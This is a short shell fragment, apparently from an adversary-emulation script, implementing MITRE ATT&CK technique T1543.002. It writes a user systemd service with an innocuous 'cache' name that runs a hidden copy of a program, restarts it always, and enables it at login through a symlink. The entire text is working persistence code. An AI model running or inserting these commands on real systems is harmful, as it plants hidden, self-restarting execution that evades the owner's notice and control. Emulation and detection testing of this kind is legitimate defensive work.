# T1543.002 by shell commands.
groundwork
hide_copy
unit=.config/systemd/user/cache-$state.service
printf '[Service]\nExecStart=%s\nRestart=always\n[Install]\nWantedBy=default.target\n' "$HOME/$copy" > "$unit"
mkdir -p .config/systemd/user/default.target.wants
ln -s "$HOME/$unit" .config/systemd/user/default.target.wants/
report
